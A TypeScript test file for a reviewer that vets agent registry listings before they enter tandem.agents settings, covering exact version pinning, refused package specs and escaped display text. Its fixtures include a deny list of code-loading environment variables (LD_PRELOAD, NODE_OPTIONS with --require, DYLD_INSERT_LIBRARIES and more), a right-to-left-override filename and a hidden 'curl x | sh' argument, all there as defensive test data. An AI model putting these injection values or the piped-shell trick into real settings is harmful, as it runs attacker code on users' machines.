import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { parseRegistry, registryPlatform, settingsForRegistryAgent, type RegistryAgent } from '../../src/registry/registry';
import { dangerousVariableReason, pinnedPackage, reviewRegistryEntry, shown, variableQuestion, withoutVariables, type RegistryEntryReview } from '../../src/registry/registryEntryReview';
import { repoRoot } from '../support/scriptedAgentSpec';

const platform = registryPlatform('linux', 'x64');
const fixture = parseRegistry(JSON.parse(readFileSync(join(repoRoot, 'test', 'fixtures', 'registry.json'), 'utf8')));

/** A listing of one agent, as a registry would publish it. */
function listed(distribution: Record<string, unknown>, version = '1.2.3'): RegistryAgent {
  const [agent] = parseRegistry({ agents: [{ id: 'probe', name: 'Probe agent', version, distribution }] });
  assert.ok(agent);
  return agent;
}

function reviewed(agent: RegistryAgent): RegistryEntryReview {
  const review = reviewRegistryEntry(agent, settingsForRegistryAgent(agent, platform).settings);
  assert.ok(!('problem' in review), JSON.stringify(review));
  return review;
}

function problemOf(agent: RegistryAgent): string {
  const review = reviewRegistryEntry(agent, settingsForRegistryAgent(agent, platform).settings);
  assert.ok('problem' in review, `expected a refusal: ${JSON.stringify(review)}`);
  return review.problem;
}

describe('registry entries before they reach tandem.agents', () => {
  test('the summary shows the exact command, arguments and environment of each kind of listing', () => {
    const [npx, uvx, binary] = fixture.map(reviewed);
    assert.deepEqual(npx?.settings, { label: 'Fixture npx agent', command: 'npx', args: ['--yes', '@fixture/acp-agent@2.3.1', '--acp'], env: { FIXTURE_MODE: 'acp' } });
    assert.equal(npx?.title, 'Add Fixture npx agent from the ACP registry?');
    assert.equal(npx?.summary, [
      'Fixture npx agent (fixture-npx-agent, version 2.3.1) is added to tandem.agents in your user settings. Each time you pick it, Tandem runs:',
      '',
      'Command: npx',
      'Arguments: --yes @fixture/acp-agent@2.3.1 --acp',
      'Environment:\n  FIXTURE_MODE=acp',
    ].join('\n'));
    assert.deepEqual(npx?.dangerous, []);
    assert.deepEqual(uvx?.settings.args, ['fixture-acp==0.4.0', 'acp']);
    assert.match(uvx?.summary ?? '', /Command: uvx\nArguments: fixture-acp==0\.4\.0 acp\nEnvironment: nothing beyond your own/);
    assert.match(binary?.summary ?? '', /Command: fixture-agent\nArguments: acp\n/);
  });

  test('loader variables are each flagged for their own confirmation, and marked in the summary', () => {
    const review = reviewed(listed({ npx: { package: 'probe-agent', env: { NODE_OPTIONS: '--require /tmp/x.js', MODE: 'acp', LD_PRELOAD: '/tmp/x.so' } } }));
    assert.deepEqual(review.dangerous.map((variable) => [variable.name, variable.value]), [['NODE_OPTIONS', '--require /tmp/x.js'], ['LD_PRELOAD', '/tmp/x.so']]);
    assert.ok(review.summary.endsWith('Environment:\n  NODE_OPTIONS="--require /tmp/x.js"   (asked separately)\n  MODE=acp\n  LD_PRELOAD=/tmp/x.so   (asked separately)'), review.summary);
    const question = variableQuestion('Probe agent', review.dangerous[0] ?? { name: '', value: '', reason: '' });
    assert.equal(question.message, 'Let Probe agent set NODE_OPTIONS?');
    assert.match(question.detail, /^NODE_OPTIONS="--require \/tmp\/x\.js"\n\nNODE_OPTIONS loads code into every Node\.js program: /);
    assert.deepEqual(withoutVariables(review.settings, ['NODE_OPTIONS', 'LD_PRELOAD']).env, { MODE: 'acp' });
    assert.equal(withoutVariables(review.settings, []), review.settings);
  });

  test('which variables are dangerous', () => {
    const dangerous = [
      'NODE_OPTIONS', 'node_options', 'NODE_PATH', 'LD_PRELOAD', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES', 'DYLD_LIBRARY_PATH',
      'PYTHONPATH', 'PYTHONSTARTUP', 'PYTHONHOME', 'PERL5OPT', 'PERL5LIB', 'RUBYOPT', 'RUBYLIB', 'BASH_ENV', 'ENV', 'BASH_FUNC_ls%%',
      'JAVA_TOOL_OPTIONS', '_JAVA_OPTIONS', 'ELECTRON_RUN_AS_NODE', 'PATH', 'Path', 'GIT_SSH_COMMAND', 'npm_config_registry',
      'UV_INDEX_URL', 'PIP_INDEX_URL', 'HOME', 'NODE_TLS_REJECT_UNAUTHORIZED', 'HTTPS_PROXY', 'https_proxy', 'A=B', 'WITH SPACE', '',
    ];
    for (const name of dangerous) assert.ok(dangerousVariableReason(name), `${name} is dangerous`);
    for (const name of ['FIXTURE_MODE', 'ANTHROPIC_MODEL', 'GEMINI_CLI_ACP', 'DEBUG', 'LOG_LEVEL', 'NODE_ENV', 'NO_COLOR', 'ENVIRONMENT']) {
      assert.equal(dangerousVariableReason(name), null, `${name} is ordinary`);
    }
    assert.equal(dangerousVariableReason('DYLD_INSERT_LIBRARIES'), 'loads libraries into every program');
    assert.equal(dangerousVariableReason('A=B'), 'is not an ordinary variable name');
  });

  test('packages are pinned to the exact version of the listing, never a tag', () => {
    assert.deepEqual(pinnedPackage('npx', 'probe-agent', '1.2.3'), { spec: 'probe-agent@1.2.3' });
    assert.deepEqual(pinnedPackage('npx', '@scope/probe', '1.2.3-beta.1'), { spec: '@scope/probe@1.2.3-beta.1' });
    assert.deepEqual(pinnedPackage('npx', 'probe-agent@1.2.3', '1.2.3'), { spec: 'probe-agent@1.2.3' });
    assert.deepEqual(pinnedPackage('npx', 'probe-agent@1.2.3', ''), { spec: 'probe-agent@1.2.3' }, "the package's own exact version when the listing has none");
    assert.deepEqual(pinnedPackage('uvx', 'probe-acp', '0.4.0'), { spec: 'probe-acp==0.4.0' });
    assert.deepEqual(pinnedPackage('uvx', 'probe-acp[cli]@0.4.0', '0.4.0'), { spec: 'probe-acp[cli]==0.4.0' });
    assert.deepEqual(pinnedPackage('uvx', 'probe-acp==1.0rc1', ''), { spec: 'probe-acp==1.0rc1' });

    const refused: [Parameters<typeof pinnedPackage>, RegExp][] = [
      [['npx', 'probe-agent@latest', '1.2.3'], /asks for "latest"/],
      [['npx', 'probe-agent@latest', ''], /asks for "latest"/],
      [['npx', 'probe-agent', 'latest'], /lists "latest", not an exact version/],
      [['npx', 'probe-agent@^1.2.0', '1.2.3'], /not an exact version/],
      [['npx', 'probe-agent@1.2.2', '1.2.3'], /asks for version 1\.2\.2 while the registry lists 1\.2\.3/],
      [['npx', 'probe-agent', ''], /no version/],
      [['npx', 'github:someone/probe', '1.2.3'], /not a plain npm package name/],
      [['npx', 'https://example.invalid/probe.tgz', '1.2.3'], /not a plain npm package name/],
      [['npx', '../probe', '1.2.3'], /not a plain npm package name/],
      [['uvx', 'probe-acp>=0.4', '0.4.0'], /not a plain PyPI package name/],
      [['uvx', 'git+https://example.invalid/probe', '0.4.0'], /not a plain PyPI package name/],
      [['uvx', 'probe-acp==0.3.0', '0.4.0'], /while the registry lists 0\.4\.0/],
    ];
    for (const [args, reason] of refused) {
      const pinned = pinnedPackage(...args);
      assert.ok('problem' in pinned && reason.test(pinned.problem), `${args.join(' ')}: ${JSON.stringify(pinned)}`);
    }
  });

  test('a listing whose package cannot be pinned is not added', () => {
    assert.match(problemOf(listed({ npx: { package: 'probe-agent@latest' } })), /latest/);
    assert.match(problemOf(listed({ npx: { package: 'probe-agent' } }, 'latest')), /not an exact version/);
    assert.match(problemOf(listed({ uvx: { package: 'probe-acp' } }, '')), /no version/);
  });

  test('the entry written is the pinned one, whatever form the package took in the listing', () => {
    assert.deepEqual(reviewed(listed({ npx: { package: 'probe-agent@1.2.3', args: ['--acp'] } })).settings.args, ['--yes', 'probe-agent@1.2.3', '--acp']);
    assert.deepEqual(reviewed(listed({ uvx: { package: 'probe-acp', args: ['acp'] } }, '0.4.0')).settings.args, ['probe-acp==0.4.0', 'acp']);
    const entry = { label: 'Probe agent', command: 'npx', args: ['--yes', 'other-package'], env: {} };
    const mismatch = reviewRegistryEntry(listed({ npx: { package: 'probe-agent' } }), entry);
    assert.ok('problem' in mismatch && /does not run the package probe-agent/.test(mismatch.problem));
  });

  test('nothing in the shown text can hide what runs', () => {
    assert.equal(shown('--acp'), '--acp');
    assert.equal(shown('two words'), '"two words"');
    assert.equal(shown('a\nb'), '"a\\u{a}b"');
    assert.equal(shown('say "hi"'), '"say \\"hi\\""');
    assert.equal(shown('safe\u202Eexe.js'), '"safe\\u{202e}exe.js"');
    assert.equal(shown(''), '""');
    const review = reviewed(listed({ binary: { [platform]: { archive: 'https://example.invalid/a.tgz', cmd: 'sh', args: ['-c', 'curl x | sh\n# looks harmless'] } } }));
    assert.match(review.summary, /Command: sh\nArguments: -c "curl x \| sh\\u\{a\}# looks harmless"\n/);
  });
});
